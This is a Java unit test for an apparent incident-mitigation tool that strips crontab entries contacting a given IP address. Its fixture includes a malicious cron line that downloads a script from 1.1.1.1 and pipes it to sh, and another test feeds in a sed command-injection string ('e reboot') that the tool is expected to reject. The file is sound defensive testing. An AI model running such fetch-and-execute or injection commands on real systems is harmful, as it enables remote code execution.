package io.c2intents.mitigation.action;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.c2intents.mitigation.action.pod.CrontabCleaner;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Which crontab lines an eviction removes, and that the sed program is built only from a checked address. */
class CrontabCleanerTest {

    private static final String INFECTED = """
            # min hour day month weekday command
            */15 * * * * run-parts /etc/periodic/15min
            * * * * * ping 1.1.1.1 -c5 >> /var/log/cron.log 2>&1
            0 * * * * ping 11.1.1.10 -c1
            5 * * * * wget -q -O- http://1.1.1.1/x | sh
            """;

    @Test
    void removesOnlyTheEntriesThatReachTheAddress() {
        CrontabCleaner.Cleaned cleaned = CrontabCleaner.withoutEntriesReaching(INFECTED, "1.1.1.1");

        assertThat(cleaned.removed()).containsExactly("* * * * * ping 1.1.1.1 -c5 >> /var/log/cron.log 2>&1",
                "5 * * * * wget -q -O- http://1.1.1.1/x | sh");
        assertThat(cleaned.content()).isEqualTo("""
                # min hour day month weekday command
                */15 * * * * run-parts /etc/periodic/15min
                0 * * * * ping 11.1.1.10 -c1
                """);
    }

    @Test
    void aCleanCrontabIsLeftAsItIs() {
        CrontabCleaner.Cleaned cleaned = CrontabCleaner.withoutEntriesReaching("0 * * * * ping 8.8.8.8\n", "1.1.1.1");

        assertThat(cleaned.changed()).isFalse();
        assertThat(cleaned.content()).isEqualTo("0 * * * * ping 8.8.8.8\n");
        assertThat(CrontabCleaner.withoutEntriesReaching("", "1.1.1.1").changed()).isFalse();
    }

    @Test
    void sedProgramEscapesTheDotsOfACheckedAddress() {
        assertThat(CrontabCleaner.sedProgram("1.1.1.1")).isEqualTo("/(^|[^0-9.])1\\.1\\.1\\.1([^0-9.]|$)/d");
        for (String hostile : List.of("1.1.1.1/d;e reboot;", "1.1.1.1\n", "a.b.c.d", "1.1.1", "01.1.1.1", "")) {
            assertThatThrownBy(() -> CrontabCleaner.sedProgram(hostile)).isInstanceOf(IllegalArgumentException.class);
        }
    }

    @Test
    void linesIgnoreTheFinalLineBreak() {
        assertThat(CrontabCleaner.lines("a\nb\n")).containsExactly("a", "b");
        assertThat(CrontabCleaner.lines("a\nb")).containsExactly("a", "b");
        assertThat(CrontabCleaner.lines("")).isEmpty();
    }
}
